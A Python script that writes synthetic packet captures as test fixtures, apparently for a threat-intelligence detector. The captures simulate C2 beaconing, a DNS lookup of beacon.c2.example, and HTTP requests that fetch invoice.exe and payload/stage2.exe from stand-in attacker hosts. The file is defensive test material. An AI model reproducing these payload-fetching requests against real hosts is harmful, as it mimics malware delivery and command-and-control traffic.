#!/usr/bin/env python3
"""intel-craft.py: writes the threat-intelligence test captures.

usage: intel-craft.py OUTDIR

  intel-c2-domain.pcap  192.168.1.10 resolves beacon.c2.example (DNS over
                        UDP to 192.168.1.1; the answer is 198.51.100.77)
                        and fetches http://beacon.c2.example/gate.php
  intel-beacon.pcap     192.168.1.20 opens a TCP connection to
                        203.0.113.50:443 every 60 seconds, five times; and
                        203.0.113.200 (outside) connects to 192.168.1.21:22
  intel-download.pcap   192.168.1.30 downloads /invoice.exe from
                        198.51.100.90; the body is BODY below
  intel-proxy.pcap      192.168.1.40 asks the proxy 192.168.1.1:3128 for
                        http://dl.evil.example/payload/stage2.exe (an
                        absolute URI, as clients send to a proxy)

Every frame is Ethernet/IPv4 with correct IP, TCP and UDP checksums; TCP
connections have a full handshake and close. Times start at
2026-11-30 10:00:00 UTC.
"""
import struct
import sys

T0 = 1796032800  # 2026-11-30T10:00:00Z

BODY = b"MZ\x90\x00" + b"this is not really a program, only a test body for omamori\n" * 8


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ip4(a):
    return bytes(int(x) for x in a.split("."))


class Pcap:
    def __init__(self, path):
        self.f = open(path, "wb")
        self.f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        self.ipid = 1

    def frame(self, t, src, dst, proto, l4):
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), self.ipid, 0x4000, 64,
                          proto, 0, ip4(src), ip4(dst))
        self.ipid += 1
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        eth = b"\x02\x00\x00\x00\x00\x02" + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00"
        pkt = eth + hdr + l4
        sec, usec = int(t), int(round((t - int(t)) * 1e6))
        self.f.write(struct.pack("<IIII", sec, usec, len(pkt), len(pkt)) + pkt)

    def close(self):
        self.f.close()


def pseudo(src, dst, proto, length):
    return ip4(src) + ip4(dst) + struct.pack("!BBH", 0, proto, length)


def udp(p, t, src, sp, dst, dp, data):
    seg = struct.pack("!HHHH", sp, dp, 8 + len(data), 0) + data
    c = csum(pseudo(src, dst, 17, len(seg)) + seg) or 0xFFFF
    seg = seg[:6] + struct.pack("!H", c) + seg[8:]
    p.frame(t, src, dst, 17, seg)


def tcp(p, t, src, sp, dst, dp, seq, ack, flags, data=b""):
    seg = struct.pack("!HHIIBBHHH", sp, dp, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags,
                      65535, 0, 0) + data
    c = csum(pseudo(src, dst, 6, len(seg)) + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    p.frame(t, src, dst, 6, seg)


SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01


def session(p, t, cli, cp, srv, sp, request=b"", response=b""):
    """A TCP connection: handshake, one request and one response (each may
    be empty), then FIN from both sides. Returns the time after it."""
    cs, ss = 1000, 5000
    tcp(p, t, cli, cp, srv, sp, cs, 0, SYN)
    tcp(p, t + 0.01, srv, sp, cli, cp, ss, cs + 1, SYN | ACK)
    tcp(p, t + 0.02, cli, cp, srv, sp, cs + 1, ss + 1, ACK)
    cs += 1
    ss += 1
    t += 0.03
    if request:
        tcp(p, t, cli, cp, srv, sp, cs, ss, PSH | ACK, request)
        cs += len(request)
        tcp(p, t + 0.01, srv, sp, cli, cp, ss, cs, ACK)
        t += 0.02
    off = 0
    while off < len(response):
        chunk = response[off:off + 1400]
        tcp(p, t, srv, sp, cli, cp, ss, cs, PSH | ACK, chunk)
        ss += len(chunk)
        off += len(chunk)
        tcp(p, t + 0.005, cli, cp, srv, sp, cs, ss, ACK)
        t += 0.01
    tcp(p, t, cli, cp, srv, sp, cs, ss, FIN | ACK)
    tcp(p, t + 0.01, srv, sp, cli, cp, ss, cs + 1, FIN | ACK)
    tcp(p, t + 0.02, cli, cp, srv, sp, cs + 1, ss + 1, ACK)
    return t + 0.03


def dns_name(n):
    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"


def dns_query(qid, name):
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack(
        "!HH", 1, 1)


def dns_answer(qid, name, addr):
    q = dns_name(name) + struct.pack("!HH", 1, 1)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + ip4(addr)
    return struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q + rr


def http_response(body, ctype):
    return (b"HTTP/1.1 200 OK\r\nContent-Type: " + ctype + b"\r\nContent-Length: " +
            str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)


def c2_domain(path):
    p = Pcap(path)
    cli, dns, c2 = "192.168.1.10", "192.168.1.1", "198.51.100.77"
    udp(p, T0, cli, 53001, dns, 53, dns_query(0x1234, "beacon.c2.example"))
    udp(p, T0 + 0.02, dns, 53, cli, 53001, dns_answer(0x1234, "beacon.c2.example", c2))
    req = (b"GET /gate.php?id=42 HTTP/1.1\r\nHost: beacon.c2.example\r\n"
           b"User-Agent: test-agent\r\nAccept: */*\r\n\r\n")
    session(p, T0 + 0.1, cli, 49152, c2, 80, req, http_response(b"ok\n", b"text/plain"))
    p.close()


def beacon(path):
    p = Pcap(path)
    for i in range(5):
        session(p, T0 + 60 * i, "192.168.1.20", 50000 + i, "203.0.113.50", 443)
    # a listed address opens a connection from outside
    session(p, T0 + 400, "203.0.113.200", 40000, "192.168.1.21", 22)
    p.close()


def download(path):
    p = Pcap(path)
    req = (b"GET /invoice.exe HTTP/1.1\r\nHost: 198.51.100.90\r\n"
           b"User-Agent: test-agent\r\nAccept: */*\r\n\r\n")
    session(p, T0, "192.168.1.30", 51000, "198.51.100.90", 80, req,
            http_response(BODY, b"application/octet-stream"))
    p.close()


def proxy(path):
    p = Pcap(path)
    req = (b"GET http://dl.evil.example/payload/stage2.exe HTTP/1.1\r\n"
           b"Host: dl.evil.example\r\nUser-Agent: test-agent\r\nAccept: */*\r\n\r\n")
    session(p, T0, "192.168.1.40", 52000, "192.168.1.1", 3128, req,
            http_response(b"denied\n", b"text/plain"))
    p.close()


if __name__ == "__main__":
    if len(sys.argv) == 2 and sys.argv[1] == "--body-sha256":
        import hashlib
        print(hashlib.sha256(BODY).hexdigest())
        sys.exit(0)
    out = sys.argv[1]
    c2_domain(out + "/intel-c2-domain.pcap")
    beacon(out + "/intel-beacon.pcap")
    download(out + "/intel-download.pcap")
    proxy(out + "/intel-proxy.pcap")
